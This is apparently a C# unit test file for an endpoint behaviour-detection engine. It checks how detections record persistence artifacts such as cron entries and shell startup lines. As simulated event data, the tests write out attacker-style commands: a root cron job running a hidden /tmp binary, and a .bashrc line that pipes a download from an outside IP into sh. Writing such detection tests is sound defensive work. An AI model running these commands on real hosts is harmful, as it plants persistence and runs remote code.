using System;
using System.Collections.Generic;
using System.Linq;
using BehaviorBlocking.Detections;
using BehaviorBlocking.Events;
using BehaviorBlocking.Graph;
using BehaviorBlocking.Pipeline;
using BehaviorBlocking.Response;
using BehaviorBlocking.Tests.Pipeline;
using BehaviorBlocking.Verdicts;

namespace BehaviorBlocking.Tests.Verdicts
{
    /// <summary>Detections name the persistence their signals' events left, once each and bounded; events no signal matched name nothing.</summary>
    public sealed class VerdictArtifactTests
    {
        private static readonly DateTimeOffset T0 = new DateTimeOffset(2026, 3, 2, 9, 0, 0, TimeSpan.Zero);

        /// <summary>Signals every event whose target (or command line) contains a text.</summary>
        private sealed class ContainsDetector : IDetector
        {
            private readonly string _text;
            private readonly ISignalSource _source;

            public ContainsDetector(string text, ISignalSource source)
            {
                _text = text;
                _source = source;
            }

            public string Name => "contains-" + _text;

            public string? Version => null;

            public void OnEvent(BehaviorEvent behaviorEvent, ProcessNode? process, ISignalSink sink)
            {
                string text = (behaviorEvent.TargetPath ?? string.Empty) + " " + (behaviorEvent.CommandLine ?? string.Empty);
                if (text.Contains(_text, StringComparison.Ordinal))
                {
                    sink.Signal(_source, behaviorEvent, process);
                }
            }

            public void OnTreeClosed(ProcessTree tree)
            {
            }

            public void OnTreesMerged(ProcessTree from, ProcessTree into)
            {
            }

            public void OnRecordingEnd()
            {
            }
        }

        private static BehaviorEvent Start(int pid, int parent, string commandLine, double seconds) => new BehaviorEvent
        {
            Kind = EventKind.ProcessStart,
            Platform = DetectionPlatform.Linux,
            Host = "web01",
            Time = T0.AddSeconds(seconds),
            ProcessId = pid,
            ProcessGuid = "{L-" + pid + "}",
            Image = "/usr/bin/bash",
            CommandLine = commandLine,
            User = "root",
            ParentProcessId = parent,
            ParentProcessGuid = "{L-" + parent + "}",
            ParentImage = "/usr/sbin/sshd",
            Channel = "linux",
        };

        private static BehaviorEvent Write(int pid, string path, double seconds, string commandLine, EventKind kind = EventKind.FileModify) => new BehaviorEvent
        {
            Kind = kind,
            Platform = DetectionPlatform.Linux,
            Host = "web01",
            Time = T0.AddSeconds(seconds),
            ProcessId = pid,
            ProcessGuid = "{L-" + pid + "}",
            Image = "/usr/bin/bash",
            CommandLine = commandLine,
            User = "root",
            TargetPath = path,
            Channel = "linux",
        };

        private static List<Detection> Run(VerdictOptions? options, IDetector[] detectors, params BehaviorEvent[] events)
        {
            var detections = new List<Detection>();
            var pipeline = new BehaviorPipeline(detectors, new VerdictEngine(options), detections.Add);
            foreach (BehaviorEvent e in events)
            {
                pipeline.Process(e);
            }

            pipeline.EndRecording();
            return detections;
        }

        [Fact]
        public void Build_SignalEventsNamePersistence_DetectionCarriesEachArtifactOnceWithItsLine()
        {
            const string append = "bash -c \"echo '* * * * * root /tmp/.x/m' >> /etc/crontab\"";
            var source = new TestSignalSource("cron-write", Tactic.Persistence, Severity.High, "CronWrite");
            List<Detection> detections = Run(null, new IDetector[] { new ContainsDetector("crontab", source) },
                Start(100, 1, "/usr/sbin/sshd -D", 0),
                Start(200, 100, append, 1),
                Write(200, "/etc/crontab", 2, append),
                Write(200, "/etc/crontab", 3, append));

            Detection detection = Assert.Single(detections);
            Evidence artifact = Assert.Single(detection.Evidence, e => e.Kind == PersistenceArtifact.EvidenceKind);
            Assert.Equal("CronEntry:/etc/crontab", artifact.Id);
            Assert.Equal("* * * * * root /tmp/.x/m", artifact.Description);
            Assert.Equal(T0.AddSeconds(1), artifact.Time);
            PersistenceArtifact read = Assert.Single(PersistenceArtifact.FromEvidence(detection.Evidence));
            Assert.Equal(PersistenceKind.CronEntry, read.Kind);
            Assert.Equal("* * * * * root /tmp/.x/m", read.Entry);
        }

        [Fact]
        public void Build_ArtifactWithoutLineThenWithIt_KeepsOnlyTheOneWithTheLine()
        {
            var source = new TestSignalSource("rc", Tactic.Persistence, Severity.High, "RcWrite");
            List<Detection> detections = Run(null, new IDetector[] { new ContainsDetector(".bashrc", source) },
                Start(100, 1, "/usr/sbin/sshd -D", 0),
                Write(100, "/root/.bashrc", 1, "vim /root/.bashrc"),
                Write(100, "/root/.bashrc", 2, "bash -c \"echo 'curl -s http://203.0.113.9/a | sh' >> ~/.bashrc\""));

            Evidence artifact = Assert.Single(Assert.Single(detections).Evidence, e => e.Kind == "artifact");
            Assert.Equal("ShellRcLine:/root/.bashrc", artifact.Id);
            Assert.Equal("curl -s http://203.0.113.9/a | sh", artifact.Description);
        }

        [Fact]
        public void Build_ManyPersistenceEvents_ArtifactsAreBounded()
        {
            var source = new TestSignalSource("cron-d", Tactic.Persistence, Severity.High, "CronDrop");
            var events = new List<BehaviorEvent> { Start(100, 1, "/usr/sbin/sshd -D", 0) };
            for (int i = 0; i < 40; i++)
            {
                events.Add(Write(100, "/etc/cron.d/job" + i, 1 + i, "cp x /etc/cron.d/job" + i, EventKind.FileCreate));
            }

            List<Detection> detections = Run(new VerdictOptions { MaxArtifactEvidence = 5 }, new IDetector[] { new ContainsDetector("/etc/cron.d/", source) }, events.ToArray());

            string[] ids = Assert.Single(detections).Evidence.Where(e => e.Kind == "artifact").Select(e => e.Id).ToArray();
            Assert.Equal(new[] { "CronEntry:/etc/cron.d/job0", "CronEntry:/etc/cron.d/job1", "CronEntry:/etc/cron.d/job2", "CronEntry:/etc/cron.d/job3", "CronEntry:/etc/cron.d/job4" }, ids);
        }

        [Fact]
        public void Build_PersistenceInEventsNoSignalMatched_NamesNoArtifact()
        {
            var source = new TestSignalSource("curl", Tactic.CommandAndControl, Severity.High, "Curl");
            List<Detection> detections = Run(null, new IDetector[] { new ContainsDetector("curl ", source) },
                Start(100, 1, "/usr/sbin/sshd -D", 0),
                Write(100, "/etc/cron.d/evil", 1, "cp /tmp/e /etc/cron.d/evil", EventKind.FileCreate),
                Start(200, 100, "curl http://203.0.113.7/x", 2));

            Assert.DoesNotContain(Assert.Single(detections).Evidence, e => e.Kind == "artifact");
        }
    }
}
